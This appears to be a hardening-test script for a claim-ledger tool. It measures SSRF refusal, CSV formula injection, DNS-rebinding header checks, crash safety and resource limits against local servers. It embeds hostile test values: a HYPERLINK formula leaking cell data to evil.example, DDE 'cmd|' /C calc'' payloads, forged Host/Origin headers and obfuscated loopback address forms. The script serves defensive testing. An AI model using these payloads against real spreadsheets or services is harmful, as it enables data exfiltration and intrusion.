"""Run the hardening checks at full size and print the README's "Hardening" table (markdown).

    .venv/bin/python scripts/hardening_figures.py [--fuzz 10000] [--kills 20] [--only SECTION ...]

Every figure is measured by this run: the hostile corpus through ``analyze``
and ``watch``, the Hypothesis properties with ``--fuzz`` examples each
(counted from Hypothesis's own statistics), ``--kills`` SIGKILLs of
``analyze`` followed by a completing re-run compared with an uninterrupted
one, and concurrent writers on one store (PostgreSQL too when
``CLAIMLEDGER_TEST_PG`` is set). Then the second round of attacks: requests
to internal addresses (every address form, pages, feeds, feed entries and
redirects, against a loopback server that counts what reaches it), formula
cells in the CSV export, heavy pages of short paragraphs (time and peak
memory of each run), plain-text reports at the 200,000-character limit (real
prose and the hostile shapes of ``bench/bench_extract_growth.py``: time and
peak memory of each run), a live ``serve`` held by a dripping server while a
pasted report is added, its queue bound and forged ``Host``/``Origin``
headers, ``analyze`` killed every 10-20 s, a read-only store, and ``watch``'s
exit codes. The last row is the worst peak memory of all the runs measured.
Nothing is sent beyond this machine. ``--only`` runs the named sections.
"""
from __future__ import annotations

import argparse
import csv
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT / "tests"), str(ROOT / "tests" / "hostile"), str(ROOT / "bench")]

from loopback import dripping, serving  # noqa: E402  (the tests' loopback servers)
from make_corpus import (  # noqa: E402
    GOOD_REPORT,
    PARAGRAPH,
    SECRET,
    make_corpus,
    short_paragraphs,
)
from sqlalchemy import text
from test_concurrency import run_writers, split_overlapping  # noqa: E402
from test_crash_safety import (  # noqa: E402
    analyze,
    crash_cycles,
    export,
    stored_shape,
    write_reports,
)
from test_hostile import (  # noqa: E402
    CLAIMLEDGER,
    MAX_RSS_BYTES,
    _lines_naming,
    run_cli,
)

from claimledger.store import Store  # noqa: E402

#: (peak resident memory in bytes, what ran) of every measured run, for the table's last row.
PEAKS: list[tuple[int, str]] = []


def hostile(tmp: Path) -> list[tuple[str, str]]:
    root = tmp / "hostile"
    cases = make_corpus(root)
    (root / "home").mkdir()
    (root / "tmp").mkdir()
    started = time.monotonic()
    run = run_cli(["analyze", "reports", *[c.path for c in cases if c.via == "arg"], "--db", "ledger.db"], root)
    feeds = {c.path: run_cli(["watch", "--once", c.path, "--db", "ledger.db"], root) for c in cases if c.via == "feed"}
    seconds = time.monotonic() - started
    named = 0
    for case in cases:
        if case.outcome != "error":
            continue
        text = feeds[case.path].stdout + feeds[case.path].stderr if case.via == "feed" else run.stderr
        named += any(case.expect in line.lower() for line in _lines_naming(text, case))
    errors = sum(c.outcome == "error" for c in cases)
    leaked = any(SECRET.encode() in p.read_bytes() for p in root.glob("ledger.db*"))
    rss = max(r.max_rss for r in (run, *feeds.values()))
    PEAKS.append((rss, "the hostile corpus (analyze or watch)"))
    return [
        ("Hostile inputs (analyze and watch)", f"{len(cases)} inputs: {errors} must be refused, "
         f"{sum(c.outcome != 'error' for c in cases)} hold a readable report (or are good controls)"),
        ("Refused with a one-line error naming the input", f"{named} of {errors}"),
        ("Tracebacks / crashes", str(sum("Traceback" in r.stderr for r in (run, *feeds.values())))),
        ("Peak memory of one run (max RSS)", f"{rss / 2**20:.0f} MiB (limit {MAX_RSS_BYTES / 2**20:.0f} MiB)"),
        ("Text from outside the folder in the ledger", "yes" if leaked else "none"),
        ("Corpus run time", f"{seconds:.0f} s"),
    ]


def fuzz(examples: int) -> list[tuple[str, str]]:
    env = {**os.environ, "CLAIMLEDGER_FUZZ_EXAMPLES": str(examples)}
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(ROOT / "tests" / "test_fuzz.py"),
                             "--hypothesis-show-statistics"], cwd=ROOT, env=env, capture_output=True, text=True)
    counts = re.findall(r"(\d+) passing examples, (\d+) failing examples", result.stdout)  # "- 20 passing examples, 0 failing examples, …"
    passing, failing = sum(int(p) for p, _ in counts), sum(int(f) for _, f in counts)
    outcome = result.stdout.strip().splitlines()[-1] if result.stdout.strip() else result.stderr[-200:]
    return [("Fuzz cases (Hypothesis: cleaning, attribution, figures, times, pipeline)",
             f"{passing:,} passing, {failing:,} failing in {time.monotonic() - started:.0f} s ({outcome.strip('= ')})")]


def kills(tmp: Path, count: int) -> list[tuple[str, str]]:
    folder = tmp / "crash" / "reports"
    write_reports(folder, 48)
    reference_db = tmp / "crash" / "reference.db"
    started = time.monotonic()
    analyze(folder, reference_db)
    span = time.monotonic() - started
    shape = stored_shape(reference_db)
    expected = export(reference_db, tmp / "crash" / "reference.json")
    db = tmp / "crash" / "killed.db"
    counts = crash_cycles(folder, db, shape, count, span, random.Random(2))
    analyze(folder, db)
    same = stored_shape(db) == shape and export(db, tmp / "crash" / "killed.json") == expected
    mid = sum(0 < c < len(shape) for c in counts)
    return [("SIGKILLs of analyze survived", f"{count} ({mid} mid-store); integrity_check ok, no report half-stored "
             f"or duplicated; final export {'equals' if same else 'DIFFERS from'} an uninterrupted run")]


def writers(tmp: Path) -> list[tuple[str, str]]:
    write_reports(tmp / "conc" / "all", 36)
    folders = split_overlapping(tmp / "conc" / "all", tmp / "conc", writers=2, per_writer=24, step=12)
    results = run_writers(folders, str(tmp / "conc" / "shared.db"))
    with Store.open(tmp / "conc" / "shared.db", create=False) as store:
        stored = store.count()
    ok = all(r.returncode == 0 and "could not be stored" not in r.stderr for r in results)
    rows = [("Concurrent analyze writers, SQLite", f"2 writers, 36 reports (12 shared): {stored} stored, "
             f"{'no errors' if ok else 'ERRORS'}")]
    url = os.environ.get("CLAIMLEDGER_TEST_PG")
    if url:
        from claimledger.store.models import Base

        with Store.open(url) as store:
            with store.engine.begin() as connection:  # a fresh schema, migrations included
                Base.metadata.drop_all(connection)
                connection.execute(text("DROP TABLE IF EXISTS alembic_version"))
        write_reports(tmp / "pg" / "all", 40)
        folders = split_overlapping(tmp / "pg" / "all", tmp / "pg", writers=4, per_writer=16, step=8)
        results = run_writers(folders, url)
        with Store.open(url, create=False) as store:
            stored = store.count()
        ok = all(r.returncode == 0 and "could not be stored" not in r.stderr for r in results)
        rows.append(("Concurrent analyze writers, PostgreSQL",
                     f"4 writers, 40 reports (overlapping): {stored} stored, {'no errors' if ok else 'ERRORS'}"))
    else:
        rows.append(("Concurrent analyze writers, PostgreSQL", "not run (CLAIMLEDGER_TEST_PG unset)"))
    return rows


# Second round ------------------------------------------------------------

INTERNAL_PAGE = ("<html><head><title>Internal status</title></head><body><article><p>INTERNAL-MARKER: the service "
                 "said on Monday that all 12 nodes were healthy, the operator told staff in a note.</p></article>"
                 "</body></html>")
#: Ways to write an address of this machine in a URL (decimal, hex, octal, short, IPv6, mapped).
FORMS = ("127.0.0.1", "localhost", "0x7f000001", "2130706433", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]",
         "0.0.0.0")


def internal_addresses(tmp: Path) -> list[tuple[str, str]]:
    """Pages, feeds, feed entries and redirects pointing at a loopback service, in every address form."""
    root = tmp / "ssrf"
    for folder in ("home", "tmp"):
        (root / folder).mkdir(parents=True)
    feed = ("<?xml version='1.0'?><rss version='2.0'><channel><title>Wire</title><item><title>Status</title>"
            "<link>http://{host}:PORT/page.html</link><description>ok</description></item></channel></rss>")
    routes = {"/page.html": (200, {"Content-Type": "text/html"}, INTERNAL_PAGE.encode()),
              "/feed.rss": (200, {"Content-Type": "application/rss+xml"}, feed.format(host="127.0.0.1").encode())}
    tried = refused = 0
    with serving(routes) as (port, hits):
        for form in FORMS:
            for path, command in (("page.html", "analyze"), ("feed.rss", "watch")):
                url = f"http://{form}:{port}/{path}"
                run = run_cli([command, *(["--once"] if command == "watch" else []), url, "--db", "ledger.db"], root)
                tried += 1
                refused += run.code == 1 and ("not a public address" in run.stderr or "not a valid" in run.stderr)
            entry_feed = root / f"entries-{len(hits)}-{tried}.rss"  # a feed file whose entry links inside
            entry_feed.write_text(feed.format(host=form).replace("PORT", str(port)))
            run = run_cli(["watch", "--once", entry_feed.name, "--db", "ledger.db"], root)
            tried += 1
            refused += run.code == 1 and ("not a public address" in run.stderr or "not a valid" in run.stderr)
        redirects = _redirects(port, hits)
        reached_before = len(hits)
        allowed = run_cli(["analyze", f"http://127.0.0.1:{port}/page.html", "--db", "allowed.db",
                           "--allow-private-addresses"], root)
        open_port = run_cli(["analyze", f"http://127.0.0.1:{port}/page.html", "--db", "ledger.db"], root)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        closed = probe.getsockname()[1]
    closed_port = run_cli(["analyze", f"http://127.0.0.1:{closed}/page.html", "--db", "ledger.db"], root)
    same = open_port.stderr.split(": ", 1)[-1] == closed_port.stderr.split(": ", 1)[-1]
    leaked = (root / "ledger.db").exists() and b"INTERNAL-MARKER" in (root / "ledger.db").read_bytes()
    return [
        ("Requests to internal addresses (9 address forms: page, feed, feed entry; analyze and watch)",
         f"{refused} of {tried} refused with one line; {reached_before} requests reached the internal server; "
         f"its text in the ledger: {'YES' if leaked else 'no'}"),
        ("Redirects from an outside server to each form of a loopback address",
         f"{redirects} of {len(FORMS)} refused, none reached the internal server"),
        ("The same page with --allow-private-addresses", "fetched and stored" if "analysed 1" in allowed.stdout
         else "NOT fetched"),
        ("Errors telling an open port from a closed one", "none (the same line for both)" if same else
         "DIFFER: " + open_port.stderr.strip() + " / " + closed_port.stderr.strip()),
    ]


def _redirects(port: int, hits: list[str]) -> int:
    """Redirects to every form of a loopback address, from a server on 127.0.0.2 that stands in for an
    outside one (the address check lets that one address through, in this process only); a redirect
    counts as refused when it fails and nothing reached the internal server (httpx itself rejects an
    octal address in a Location header)."""
    from claimledger.ingest import IngestError, web

    real = web.is_public
    web.is_public = lambda address: address == "127.0.0.2" or real(address)
    refused = 0
    try:
        for form in FORMS:
            target = f"http://{form}:{port}/page.html"
            with serving({"/go": (302, {"Location": target}, b"")}, host="127.0.0.2") as (hop, _):
                try:
                    web.read_url(f"http://127.0.0.2:{hop}/go")
                except IngestError:
                    refused += not hits
    finally:
        web.is_public = real
    return refused


def csv_formulas(tmp: Path) -> list[tuple[str, str]]:
    """A report whose title, outlet and quotes begin with formula characters, exported as CSV."""
    root = tmp / "csv"
    root.mkdir()
    (root / "formulas.txt").write_text(
        'title: =HYPERLINK("http://evil.example/?"&A1,"Open")\noutlet: @SUM(1+1)*cmd|\' /C calc\'!A0\n\n'
        '"+1 for the new bridge," the mayor, Ada Brenn, said on Monday.\n'
        '"-5 degrees is no reason to close the port," harbour master Ilse Varga told reporters.\n'
        '"=cmd|\' /C calc\'!A0 is what the hackers typed," police spokesman Tom Hale said.\n', encoding="utf-8")
    subprocess.run([str(CLAIMLEDGER), "analyze", "formulas.txt", "--db", "l.db"], cwd=root,
                   capture_output=True, check=True)
    counts = {}
    for mode, extra in (("safe", []), ("raw", ["--csv-raw-formulas"])):
        subprocess.run([str(CLAIMLEDGER), "export", "--format", "csv", "--db", "l.db",
                        "-o", mode, *extra], cwd=root, capture_output=True, check=True)
        cells = [c for path in (root / mode).glob("*.csv") for row in csv.reader(open(path, newline="", encoding="utf-8"))
                 for c in row]
        counts[mode] = sum(c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c)) for c in cells)
        counts[mode + "_quoted"] = sum(c[:1] == "'" and c[1:2] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    return [("Formula cells in the CSV export (a hostile report's title, outlet and quotes)",
             f"{counts['safe']} cells would run as formulas ({counts['safe_quoted']} neutralised with a leading '); "
             f"--csv-raw-formulas writes {counts['raw']} raw")]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def heavy_pages(tmp: Path) -> list[tuple[str, str]]:
    """Pages of short paragraphs through ``analyze``: outcome, CPU time and peak memory of each run, and what
    trafilatura alone costs on them (the growth the bounds stop)."""
    root = tmp / "heavy"
    for folder in ("home", "tmp"):
        (root / folder).mkdir(parents=True)
    rows = []
    sizes = (("0.9 MB (19,000 paragraphs, under the element bound)", 19_000 * len(PARAGRAPH)),
             ("1 MB", 2**20), ("2 MB", 2 * 2**20), ("20 MB", 20 * 2**20 - 4096))
    worst = 0
    for label, size in sizes:
        page = root / f"page-{size}.html"
        with open(page, "w", encoding="ascii") as f:
            short_paragraphs(f, size)
        started = time.monotonic()
        run = run_cli(["analyze", page.name, "--db", "ledger.db"], root)
        seconds = time.monotonic() - started
        worst = max(worst, run.max_rss)
        PEAKS.append((run.max_rss, f"HTML page of {label}"))
        outcome = run.stderr.strip().split(": ", 1)[-1] if run.code else run.stdout.strip()
        rows.append((f"HTML page of {label} of short paragraphs",
                     f"{outcome[:120]}; {seconds:.1f} s, peak {run.max_rss / 2**20:.0f} MiB (whole analyze run)"))
    curve = subprocess.run([sys.executable, "-c", _TRAFILATURA_CURVE], capture_output=True, text=True, cwd=ROOT)
    rows.append(("trafilatura alone on such pages (no bounds; CPU s)", curve.stdout.strip() or curve.stderr[-200:]))
    return rows


def long_texts(tmp: Path, size: int = 200_000) -> list[tuple[str, str]]:
    """Plain-text reports at the size limit through ``analyze``: real prose and the hostile shapes of
    ``bench/bench_extract_growth.py``, each its own run (outcome, time, peak memory)."""
    from bench_extract_growth import hostile_texts, paragraphs

    root = tmp / "long"
    for folder in ("home", "tmp"):
        (root / folder).mkdir(parents=True)
    rows = []
    for number, (label, body) in enumerate(hostile_texts(size, paragraphs()).items()):
        path = root / f"text-{number}.txt"
        path.write_text(body, encoding="utf-8")
        started = time.monotonic()
        run = run_cli(["analyze", path.name, "--db", f"ledger-{number}.db"], root)
        seconds = time.monotonic() - started
        outcome = run.stderr.strip().split(": ", 1)[-1] if run.code else run.stdout.strip()
        PEAKS.append((run.max_rss, f"plain-text report of {len(body):,} characters: {label}"))
        rows.append((f"Plain-text report of {len(body):,} characters: {label}",
                     f"{outcome[:110]}; {seconds:.1f} s, peak {run.max_rss / 2**20:.0f} MiB (whole analyze run)"))
    return rows


_TRAFILATURA_CURVE = """
import sys, time, io
sys.path.insert(0, "tests/hostile")
from make_corpus import PARAGRAPH, short_paragraphs
import trafilatura
out = []
for count in (5_000, 10_000, 20_000, 40_000):
    f = io.StringIO(); short_paragraphs(f, count * len(PARAGRAPH)); page = f.getvalue()
    if count == 5_000:
        trafilatura.bare_extraction(page)  # its first call sets itself up
    started = time.process_time(); trafilatura.bare_extraction(page, with_metadata=True)
    out.append(f"{count:,} paragraphs ({len(page) / 2**20:.2f} MB): {time.process_time() - started:.1f} s")
print("; ".join(out))
"""


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _request(url: str, data: dict | None = None, headers: dict | None = None) -> tuple[int, str, str]:
    """(status, final URL, body) of a GET or form POST, redirects not followed."""
    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args):
            return None

    body = urllib.parse.urlencode(data).encode() if data is not None else None
    request = urllib.request.Request(url, data=body, headers=headers or {})
    try:
        with urllib.request.build_opener(NoRedirect).open(request, timeout=30) as response:
            return response.status, response.headers.get("location", ""), response.read().decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers.get("location", "") or "", exc.read().decode(errors="replace")


def live_serve(tmp: Path) -> list[tuple[str, str]]:
    """A live ``claimledger serve`` on loopback: a dripping page and a paste, the queue bound, forged headers."""
    root = tmp / "serve"
    root.mkdir()
    subprocess.run([str(CLAIMLEDGER), "analyze", str(ROOT / "examples"), "--db", "l.db"],
                   cwd=root, capture_output=True, check=True)
    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    proc = subprocess.Popen([str(CLAIMLEDGER), "serve", "--db", "l.db", "--port", str(port),
                             "--allow-private-addresses"], cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    rows = []
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                if _request(base + "/api/documents")[0] == 200:
                    break
            except OSError:
                time.sleep(0.5)
        forged = _request(base + "/api/claims", headers={"Host": "rebound.evil.example"})[0]
        forged_post = _request(base + "/upload", {"text": "x"}, {"Host": "rebound.evil.example",
                                                                 "Origin": "http://rebound.evil.example"})[0]
        scheme = _request(base + "/upload", {"text": "x"}, {"Origin": f"https://127.0.0.1:{port}"})[0]
        other_port = _request(base + "/upload", {"text": "x"}, {"Origin": f"http://127.0.0.1:{port + 1}"})[0]
        rows.append(("Forged Host (DNS rebinding) against a live serve without a token",
                     f"GET answered {forged}, form POST with a matching Origin answered {forged_post}"))
        rows.append(("Origin with another scheme / port", f"{scheme} / {other_port}"))
        with dripping(every=2) as slow_url:  # 2 bytes every 4 s was the attack; a byte every 2 s here
            started = time.monotonic()
            slow = _request(base + "/upload", {"fetch": slow_url})[1]
            pasted = _request(base + "/upload", {"text": GOOD_REPORT.split("\n\n", 1)[1], "title": "Pasted"})[1]
            while "See the claims" not in _request(base + pasted)[2] and time.monotonic() - started < 300:
                time.sleep(0.5)
            paste_seconds = time.monotonic() - started
            still = "fetching the page" in _request(base + slow)[2]
            queue = [_request(base + "/upload", {"fetch": slow_url})[0] for _ in range(9)]
            while "Failed" not in (status := _request(base + slow)[2]) and time.monotonic() - started < 300:
                time.sleep(1)
            cut = time.monotonic() - started
            reason = re.search(r"Failed: ([^<]*)", status)
        rows.append(("Page dripping a byte every 2 s, with a report pasted after it",
                     f"paste added in {paste_seconds:.1f} s while the page was {'still' if still else 'NOT'} fetching; "
                     f"the page cut at {cut:.0f} s ({reason.group(1).split(': ', 1)[-1] if reason else 'not cut'})"))
        rows.append(("9 more page fetches posted while one waits (bound: 8 waiting)",
                     f"{queue.count(303)} accepted, {queue.count(503)} answered 503 busy"))
    finally:
        proc.send_signal(signal.SIGINT)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            proc.kill()
    return rows


def periodic_kills(tmp: Path, seconds: tuple[float, float] = (10, 20), cycles: int = 6) -> list[tuple[str, str]]:
    """``analyze`` over 200 reports killed every 10-20 s: how many are stored after each kill."""
    folder = tmp / "periodic" / "reports"
    write_reports(folder, 200)
    db = tmp / "periodic" / "killed.db"
    rng = random.Random(3)
    counts = []
    for _ in range(cycles):
        analyze(folder, db, kill_after=rng.uniform(*seconds))
        with Store.open(db, create=False) as store:
            counts.append(store.count())
    return [(f"analyze of 200 reports killed every {seconds[0]:.0f}-{seconds[1]:.0f} s",
             "stored after each kill: " + ", ".join(map(str, counts)))]


def read_only(tmp: Path) -> list[tuple[str, str]]:
    store = tmp / "ro" / "store"
    store.mkdir(parents=True)
    bin_ = CLAIMLEDGER
    subprocess.run([str(bin_), "analyze", str(ROOT / "examples"), "--db", str(store / "l.db")], capture_output=True,
                   check=True)
    if shutil.which("unshare") is None:
        return [("Store on a read-only file system", "not run (no unshare)")]
    out = tmp / "ro"
    script = (f"mount --bind -o ro {store} {store} && {bin_} export --db {store / 'l.db'} -o {out / 'l.json'} && "
              f"{bin_} report --db {store / 'l.db'} -o {out / 'b.html'}")
    run = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True)
    return [("Store on a read-only file system: export and report",
             "both work" if run.returncode == 0 else f"FAILED: {run.stderr.strip()[-200:]}")]


def watch_codes(tmp: Path) -> list[tuple[str, str]]:
    root = tmp / "watch"
    for folder in ("home", "tmp"):
        (root / folder).mkdir(parents=True)
    missing = run_cli(["watch", "--once", "missing.rss", "--db", "l.db"], root)
    refused = run_cli(["watch", "--once", "http://127.0.0.1:9/feed.rss", "--db", "l.db"], root)
    return [("watch --once exit code, feed missing / refused", f"{missing.code} / {refused.code}")]


SECTIONS = {
    "hostile": lambda tmp, args: hostile(tmp),
    "kills": lambda tmp, args: kills(tmp, args.kills),
    "writers": lambda tmp, args: writers(tmp),
    "fuzz": lambda tmp, args: fuzz(args.fuzz),
    "internal-addresses": lambda tmp, args: internal_addresses(tmp),
    "csv-formulas": lambda tmp, args: csv_formulas(tmp),
    "heavy-pages": lambda tmp, args: heavy_pages(tmp),
    "long-texts": lambda tmp, args: long_texts(tmp),
    "serve": lambda tmp, args: live_serve(tmp),
    "periodic-kills": lambda tmp, args: periodic_kills(tmp),
    "read-only": lambda tmp, args: read_only(tmp),
    "watch-codes": lambda tmp, args: watch_codes(tmp),
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--fuzz", type=int, default=10_000, help="Hypothesis examples per property")
    parser.add_argument("--kills", type=int, default=20, help="SIGKILLs of analyze")
    parser.add_argument("--only", nargs="+", choices=list(SECTIONS), help="run only these sections")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="claimledger-hardening-") as folder:
        tmp = Path(folder)
        rows = [row for name, section in SECTIONS.items() if not args.only or name in args.only
                for row in section(tmp, args)]
    if PEAKS:
        peak, what = max(PEAKS)
        rows.append(("Worst peak memory of the runs above (max RSS, measured)", f"{peak / 2**20:,.0f} MiB: {what}"))
    print("| What was tried | What held |")
    print("|---|---|")
    for what, held in rows:
        print(f"| {what} | {held} |")


if __name__ == "__main__":
    main()
